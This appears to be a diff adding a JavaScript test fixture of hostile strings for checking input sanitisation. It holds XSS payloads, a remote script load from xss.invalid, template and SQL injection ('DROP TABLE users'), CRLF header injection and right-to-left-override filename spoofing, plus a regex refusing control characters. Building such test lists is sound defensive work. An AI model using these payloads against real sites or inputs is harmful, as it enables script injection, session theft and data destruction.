@@ -1,0 +1,101 @@
+// Texts that have run as scripts, or shown as something else than what was typed, somewhere. Each that could run calls
+// `xss()`, which pages of the tests watch. After the collections of OWASP, PortSwigger and Cure53, one of each kind.
+const override = '\u202e';
+const tick = '`';
+
+export const hostileTexts = [
+    // Elements that run
+    '<script>xss()</script>',
+    '<ScRiPt >xss()</sCrIpT>',
+    '<script/src=//xss.invalid/x.js></script>',
+    '<script>/*</script>*/xss()</script>',
+    '<scr<script>ipt>xss()</scr</script>ipt>',
+    '<script type=module>xss()</script>',
+    '<noscript><p title="</noscript><img src=x onerror=xss()>">',
+    '</script><script>xss()</script>',
+    '</textarea><script>xss()</script>',
+    '</title><script>xss()</script>',
+    '</style><script>xss()</script>',
+    ']]><script>xss()</script>',
+    '--><script>xss()</script>',
+    '--!><img src onerror=xss()>',
+    '<iframe srcdoc="<script>parent.xss()</script>">',
+    '<iframe src="javascript:parent.xss()">',
+    '<object data="javascript:xss()">',
+    '<embed src="data:text/html,<script>xss()</script>">',
+    '<base href="https://xss.invalid/">',
+    '<meta http-equiv=refresh content="0;url=javascript:xss()">',
+    '<link rel=stylesheet href=//xss.invalid/x.css>',
+    '<form action="javascript:xss()"><button>x</button></form>',
+    '<template><script>xss()</script></template>',
+    // Handlers
+    '<img src=x onerror=xss()>',
+    '<img src=x:x onerror="xss&lpar;&rpar;">',
+    `<img src=${tick}x${tick} onerror=xss()>`,
+    '<body onload=xss()>',
+    '<video><source onerror=xss()></video>',
+    '<audio src onloadstart=xss()>',
+    '<details open ontoggle=xss()>',
+    '<input autofocus onfocus=xss()>',
+    '<marquee onstart=xss()>x</marquee>',
+    '<p onpointerenter=xss() style=position:fixed;inset:0>x',
+    '" onmouseover="xss()" x="',
+    "' onfocus='xss()' autofocus='",
+    '" autofocus onfocus=xss() "',
+    '<a href=# onclick=xss()>x</a>',
+    // SVG and MathML, and what changes its meaning when it is parsed twice
+    '<svg onload=xss()>',
+    '<svg><script>xss()</script></svg>',
+    '<svg><animate onbegin=xss() attributeName=x dur=1s>',
+    '<svg><a xlink:href="javascript:xss()"><text y=20>x</text></a></svg>',
+    '<svg><style><img src=x onerror=xss()></style></svg>',
+    '<math><mtext><table><mglyph><style><img src=x onerror=xss()>',
+    '<math href="javascript:xss()">x</math>',
+    '<listing>&lt;img src=x onerror=xss()&gt;</listing>',
+    '<p id="</p><img src=x onerror=xss()>">',
+    // Addresses
+    'javascript:xss()',
+    'JaVaScRiPt:xss()',
+    'java&#9;script:xss()',
+    'data:text/html,<script>xss()</script>',
+    'vbscript:xss()',
+    '//xss.invalid/%0d%0aSet-Cookie:x=1',
+    '[x](javascript:xss())',
+    '![x](x"onerror="xss())',
+    // Templates
+    '{{constructor.constructor("xss()")()}}',
+    '{{7*7}}${7*7}#{7*7}<%= 7*7 %>',
+    '${xss()}',
+    '{{name}} $t(app.name)',
+    '$t(nav.signOut)',
+    'a:b.c',
+    '__proto__',
+    '%s %d %n {0}',
+    // Entities, encodings, quotes of other languages
+    '&lt;script&gt;xss()&lt;/script&gt;',
+    '&#60;img src=x onerror=xss()&#62;',
+    '\\u003cscript\\u003exss()\\u003c/script\\u003e',
+    '%3Cscript%3Exss()%3C/script%3E',
+    '+ADw-script+AD4-xss()+ADw-/script+AD4-',
+    '＜script＞xss()＜/script＞',
+    '\\x3cimg src=x onerror=xss()\\x3e',
+    "'; DROP TABLE users; --",
+    '"}];xss();//',
+    '{"type":"x","$$typeof":"Symbol(react.element)"}',
+    // Styles
+    '<style>@import "//xss.invalid/x.css";</style>',
+    '<div style="background:url(javascript:xss())">',
+    '};body{background:red}',
+    // One for many places
+    'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */xss())//</stYle/</scRipt/--!>\\x3csVg/<sVg/oNloAd=xss()//>',
+    // What is typed and what is seen
+    `Luna${override}gpj.exe`,
+    'Luna\u2066anuL\u2069',
+    'L\u0075\u0301na\u0336\u0489\u0489',
+    '👩\u200d👩\u200d👧 :smile: :script: *a* _b_ ~c~',
+    'Ｌｕｎａ Lunа',
+    'مرحبا <b>Luna</b> שלום',
+];
+
+/** Controls, other line breaks and marks of direction: one line of text does not take them. */
+export const isRefusedInOneLine = (text) => /[\u0000-\u001f\u007f-\u009f\u2028-\u202e\u2066-\u206f]/u.test(text);
